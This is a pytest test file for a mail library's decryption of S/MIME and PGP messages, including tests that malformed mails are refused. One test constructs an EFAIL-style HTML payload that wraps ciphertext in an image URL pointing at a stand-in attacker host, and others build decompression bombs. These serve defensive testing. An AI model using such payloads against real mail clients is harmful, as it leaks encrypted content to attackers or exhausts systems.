"""Encrypted mails: opened with our key, or kept and reported.

They are never half-opened.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from asn1crypto import cms
from pysequoia import encrypt

from rapport.mail import Encryption, Keyring, PgpKey, read
from rapport.mail.tests import keys
from rapport.mail.tests.keys import SUPPORT, WORDS, authority, holder, pgp, support_key

OURS = Keyring(
    authorities=(authority().der,),
    smime_keys=(holder(SUPPORT).smime,),
    pgp_certificates=(keys.pgp_public(pgp()),),
    pgp_keys=(keys.pgp_key(support_key()),),
)


def test_an_smime_mail_is_opened_with_our_key() -> None:
    mail = read(keys.smime_encrypted(), OURS)
    assert mail.reply == "The export stops at 60 %."
    assert mail.encryption == Encryption("smime", True)
    assert mail.attachments == ()


def test_a_pgp_mail_is_opened_with_our_key() -> None:
    mail = read(keys.pgp_encrypted(), OURS)
    assert mail.reply == "The export stops at 60 %."
    assert (mail.encryption, mail.seals) == (Encryption("pgp", True), ())


@pytest.mark.parametrize("raw", [keys.smime_encrypted(), keys.pgp_encrypted()])
def test_without_a_key_it_stays_a_file_and_says_so(raw: bytes) -> None:
    mail = read(raw)
    assert mail.encryption is not None
    assert (mail.encryption.obstacle, mail.encryption.whole) == ("no-key", True)
    assert mail.attachments
    stranger = Keyring(smime_keys=(holder("x@y.example").smime,), pgp_keys=(keys.pgp_key(pgp()),))
    other = read(raw, stranger)
    assert other.encryption == mail.encryption


def test_what_is_signed_and_encrypted_says_both() -> None:
    inner = keys.smime_signed()
    part = inner[inner.index(b"Content-Type: multipart/signed") :]
    mail = read(keys.smime_encrypted(part), OURS)
    assert mail.reply == "The export stops at 60 %."
    assert [(seal.verdict, seal.whole) for seal in mail.seals] == [("valid", True)]
    sealed = read(keys.pgp_encrypted(by=pgp()), OURS)
    assert [(seal.verdict, seal.by_sender) for seal in sealed.seals] == [("valid", True)]
    unknown = read(keys.pgp_encrypted(by=pgp()), Keyring(pgp_keys=OURS.pgp_keys))
    assert unknown.reply == "The export stops at 60 %."
    assert [seal.verdict for seal in unknown.seals] == ["unknown"]


def test_the_subject_that_travelled_inside_is_the_true_one() -> None:
    mail = read(keys.pgp_encrypted(b"Subject: Salaries\r\n" + WORDS), OURS)
    assert mail.subject == "Salaries"


def test_an_armoured_text_is_opened() -> None:
    sealed = encrypt("Grüße\n".encode(), [support_key().extract_certificate()])
    mail = read(keys.mail(sealed, "text/plain; charset=us-ascii"), OURS)
    assert (mail.text, mail.encryption) == ("Grüße", Encryption("pgp", True))


def test_ciphertext_among_other_parts_is_never_opened() -> None:
    """EFAIL: an image's address that begins before the ciphertext and ends behind it."""
    raw = keys.pgp_encrypted()
    sealed = raw[raw.index(b"Content-Type: multipart/encrypted") :]
    body = (
        b'--x\r\nContent-Type: text/html\r\n\r\n<img src="https://eve.example/\r\n--x\r\n'
        + sealed
        + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
    )
    mail = read(keys.mail(body, "multipart/mixed; boundary=x"), OURS)
    assert "export" not in mail.text + (mail.html or "")
    assert mail.encryption == Encryption("pgp", False, "no-key")


@pytest.mark.parametrize("cut", [50, 200, 400])
def test_a_damaged_mail_says_so_and_does_not_raise(cut: int) -> None:
    for raw in (keys.smime_encrypted(), keys.pgp_encrypted()):
        head, _, body = raw.partition(b"\r\n\r\n")
        broken = head + b"\r\n\r\n" + body[:cut] + b"AAAA" + body[cut + 40 :]
        mail = read(broken, OURS)
        assert mail.encryption is None or mail.encryption.obstacle


def test_exchange_rearranges_pgp_mail_and_it_is_opened_all_the_same() -> None:
    raw = keys.pgp_encrypted()
    raw = raw.replace(b"multipart/encrypted", b"multipart/mixed")
    raw = raw.replace(b"--enc\r\n", b"--enc\r\nContent-Type: text/plain\r\n\r\n\r\n--enc\r\n", 1)
    assert read(raw, OURS).reply == "The export stops at 60 %."


def test_a_passphrase_opens_the_key() -> None:
    if not shutil.which("gpg"):
        pytest.skip("no gpg on this machine to make a key with a passphrase")
    secret, public = _gpg_key("hunter22")
    sealed = encrypt(b"Secret.\n", [_certificate(public)])
    raw = keys.mail(sealed, "text/plain")
    assert read(raw, Keyring(pgp_keys=(PgpKey(secret, "hunter22"),))).text == "Secret."
    wrong = read(raw, Keyring(pgp_keys=(PgpKey(secret, "hunter23"),)))
    assert wrong.encryption is not None
    assert wrong.encryption.obstacle in ("no-key", "damaged")


@pytest.mark.parametrize("size", [150_000_000, pytest.param(1_600_000_000, marks=pytest.mark.slow)])
def test_a_message_that_swells_is_given_up(size: int, tmp_path: Path) -> None:
    if not shutil.which("gpg"):
        pytest.skip("no gpg on this machine to compress with")
    bomb = tmp_path / "bomb"
    with bomb.open("wb") as file:
        file.truncate(size)
    public = tmp_path / "public.asc"
    public.write_bytes(keys.pgp_public(support_key()))
    packed = _gpg(
        tmp_path, "--recipient-file", str(public), "--compress-algo", "zlib", "-z1", "-o", "-",
        "--encrypt", str(bomb),
    )  # fmt: skip
    assert len(packed) < 20_000_000
    mail = read(keys.mail(_armour(packed), "text/plain"), OURS)
    assert mail.encryption == Encryption("pgp", True, "too-large")


def test_compressed_mails_are_unpacked_within_bounds() -> None:
    import zlib

    assert read(keys.p7m(_compressed(zlib.compress(WORDS)), "compressed-data")).reply
    bomb = zlib.compress(bytes(150_000_000), 9)
    mail = read(keys.p7m(_compressed(bomb), "compressed-data"))
    assert "compressed content that cannot be unpacked" in mail.defects


@pytest.mark.parametrize(
    "options",
    [
        ["-aes128"],
        ["-aes-256-cbc", "-keyopt", "rsa_padding_mode:oaep"],
        ["-des3"],
        ["-aes-256-gcm"],
    ],
)
def test_what_openssl_encrypts_is_opened(options: list[str], tmp_path: Path) -> None:
    if not shutil.which("openssl"):
        pytest.skip("no openssl on this machine")
    recipient = tmp_path / "support.pem"
    recipient.write_bytes(holder(SUPPORT).pem)
    keyopt = options[options.index("-keyopt") :] if "-keyopt" in options else []
    plain = [option for option in options if option not in keyopt]
    sealed = subprocess.run(
        ["openssl", "cms", "-encrypt", "-binary", "-outform", "DER", *plain,
         "-recip", str(recipient), *keyopt],
        input=WORDS, capture_output=True, check=False,
    )  # fmt: skip
    if sealed.returncode:
        pytest.skip(f"this openssl cannot: {sealed.stderr.decode()[:200]}")
    mail = read(keys.p7m(sealed.stdout, "enveloped-data"), OURS)
    assert mail.reply == "The export stops at 60 %."


def _compressed(packed: bytes) -> bytes:
    data = cms.CompressedData(
        {
            "version": "v0",
            "compression_algorithm": {"algorithm": "zlib"},
            "encap_content_info": {"content_type": "data", "content": packed},
        }
    )
    info = cms.ContentInfo({"content_type": "compressed_data", "content": data})
    return bytes(info.dump())


def _armour(packed: bytes) -> bytes:
    from pysequoia import ArmorKind, armor

    return armor(packed, ArmorKind.Message).encode()


def _certificate(public: bytes):  # type: ignore[no-untyped-def]  # the library's own class
    from pysequoia import Cert

    return Cert.from_bytes(public)


def _gpg(home: Path, *arguments: str) -> bytes:
    done = subprocess.run(
        ["gpg", "--homedir", str(home), "--batch", "--yes", "--trust-model", "always",
         "--pinentry-mode", "loopback", *arguments],
        capture_output=True, check=True,
    )  # fmt: skip
    return done.stdout


def _gpg_key(passphrase: str) -> tuple[bytes, bytes]:
    """Return a secret key under a passphrase, and its public side."""
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder)
        (home / "gpg-agent.conf").write_text("s2k-count 65536\n")
        _gpg(home, "--passphrase", passphrase, "--quick-gen-key", SUPPORT, "future-default")
        secret = _gpg(home, "--passphrase", passphrase, "--armor", "--export-secret-keys")
        public = _gpg(home, "--armor", "--export")
        subprocess.run(["gpgconf", "--homedir", folder, "--kill", "all"], check=False)
    return secret, public
